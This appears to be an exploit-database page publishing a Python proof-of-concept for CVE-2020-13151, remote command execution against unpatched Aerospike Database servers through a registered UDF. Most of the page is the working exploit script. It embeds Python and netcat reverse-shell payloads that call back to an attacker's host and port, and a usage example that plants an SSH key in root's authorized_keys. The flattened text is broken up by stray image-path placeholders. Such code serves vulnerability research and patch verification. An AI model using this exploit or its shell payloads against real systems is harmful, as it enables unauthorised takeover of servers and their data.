Aerospike Database Remote Command Execution

Credit: Matt S
Risk: High
Local: No
Remote: Yes

CVSS Base Score: 10/10
Impact Subscore: 10/10
Exploitability Subscore: 10/10
Exploit range: Remote
Attack complexity: LowAuthentication: No required
Confidentiality impact: Complete
Integrity impact: Complete
Availability impact: Complete

# Exploit Title: Aerospike Database - OS Command Execution # Date: 2020-08-01 # Exploit Author: Matt S # Vendor Homepage: # Version: < # Tested on: Ubuntu 18.04 # CVE : CVE-2020-13151 #!/usr/bin/env python3 import argparse import random import os, sys from time import sleep import string # requires aerospike package from pip import aerospike # if this isn't installing, make sure os dependencies are met # sudo apt-get install python-dev # sudo apt-get install libssl-dev # sudo apt-get install python-pip # sudo apt-get install zlib1g-dev PYTHONSHELL = """python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("{ip}",{port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);["/bin/sh","-i"]);'&""" NETCATSHELL = 'rm /tmp/ft;mkfifo /tmp/ft;cat /tmp/ft|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/ft&' def _get_client(cfg): try: return aerospike.client({ 'hosts': [(cfg.ahost, cfg.aport)], 'policies': {'timeout':8000}}).connect() except Exception as e: print(f"unable to access cluster @ {cfg.ahost}:{cfg.aport}\n{e.msg}") def _send(client, cfg, _cmd): try: print(client.apply((cfg.namespace, cfg.setname, cfg.dummystring ), 'poc', 'runCMD', [_cmd])) except Exception as e: print(f"[-] UDF execution returned {e.msg}") def _register_udf(client, cfg): try: client.udf_put(cfg.udfpath) except Exception as e: print(f"[-] whoops, couldn't register the udf {cfg.udfpath}") raise e def _random_string(l): return ''.join([random.choice(string.ascii_lowercase + string.ascii_uppercase) for i in range(l)]) def _populate_table(client, cfg): ns = cfg.namespace setname = cfg.setname print(f"[+] writing to {ns}.{setname}") try: rec = cfg.dummystring client.put((ns, setname, rec), {'pk':cfg.dummystring}) print(f"[+] wrote {rec}") except Exception as e: print(f"[-] unable to write record: {e.msg}") try: if e.msg.startswith('Invalid namespace'): print("Valid namespaces: ") for n in _info_parse("namespaces", client).split(";"): print(n.strip()) except: pass sys.exit(13) def _info_parse(k, client): try: return [i[1] for i in client.info_all(k).values() ][0] except Exception as e: print(f"error retrieving information: {e.msg}") return [] def _is_vuln(_mj, _mi, _pt, _bd): fixed = [5,1,0,0] found = [_mj, _mi, _pt, _bd] if fixed == found: return False for ix, val in enumerate(found): if val < fixed[ix]: return True elif val == fixed[ix]: pass else: return False def _version_check(client): print("[+] aerospike build info: ", end="") try: _ver = _info_parse("build", client) print(_ver) mj, mi, pt, bd = [int(i) for i in _ver.split('.')] if _is_vuln(mj, mi, pt, bd): print("[+] looks vulnerable") return else: print(f"[-] this instance is patched.") sys.exit(0) except Exception as e: print(f"[+] unable to interpret build number due to {e}") print("[+] continuing anyway... ") def _exploit(cfg):client = _get_client(cfg) if not client: return _version_check(client) print(f"[+] populating dummy table.") _populate_table(client, cfg) print(f"[+] registering udf") _register_udf(client, cfg) if cfg.pythonshell or cfg.netcatshell: sys.stdout.flush() print(f"[+] sending payload, make sure you have a listener on {cfg.lhost}:{cfg.lport}", end="") sys.stdout.flush() for i in range(4): print(".", end="") sys.stdout.flush() sleep(1) print(".") _send(client, cfg, PYTHONSHELL.format(ip=cfg.lhost,port=cfg.lport) if cfg.pythonshell else NETCATSHELL.format(ip=cfg.lhost,port=cfg.lport) ) if cfg.cmd: print(f"[+] issuing command \"{cfg.cmd}\"") _send(client, cfg, cfg.cmd) if __name__ =='__main__': if len(sys.argv) == 1: print(f"[+] usage examples:\n{sys.argv[0]} --ahost --pythonshell --lhost= --lport=8000") print("... or ... ") print(f"{sys.argv[0]} --ahost --cmd 'echo MYPUBKEY > /root/.ssh/authorized_keys'") sys.exit(0) parser = argparse.ArgumentParser(description='Aerospike UDF Command Execution - CVE-2020-13151 - POC') parser.add_argument("--ahost", help="Aerospike host, default", default="") parser.add_argument("--aport", help="Aerospike port, default 3000", default=3000, type=int) parser.add_argument("--namespace", help="Namespace in which to create the record set", default="test") parser.add_argument("--setname", help="Name of set to populate with dummy record(s), default is cve202013151", default=None) parser.add_argument('--dummystring', help="leave blank for a random value, can use a previously written key to target a specific cluster node", default=None) parser.add_argument("--pythonshell", help="attempt to use a python reverse shell (requires lhost and lport)", action="store_true") parser.add_argument("--netcatshell", help="attempt to use a netcat reverse shell (requires lhost and lport)", action="store_true") parser.add_argument("--lhost", help="host to use for reverse shell callback") parser.add_argument("--lport", help="port to use for reverse shell callback")parser.add_argument("--cmd", help="custom command to issue against the underlying host") parser.add_argument('--udfpath', help="where is the udf to distribute? defaults to `pwd`/poc.lua", default=None) cfg = parser.parse_args() if not cfg.setname: cfg.setname = 'cve202013151' if not cfg.dummystring: cfg.dummystring = _random_string(16) if not cfg.udfpath: cfg.udfpath = os.path.join(os.getcwd(), 'poc.lua') assert cfg.cmd or (cfg.lhost and cfg.lport and (cfg.pythonshell or cfg.netcatshell)), "Must specify a command, or a reverseshell + lhost + lport" if cfg.pythonshell or cfg.netcatshell: assert cfg.lhost and cfg.lport, "Must specify lhost and lport ifusing a reverse shell" _exploit(cfg)

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is inquarantine 48 hours.Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment}}

Copyright 2021,


Back to Top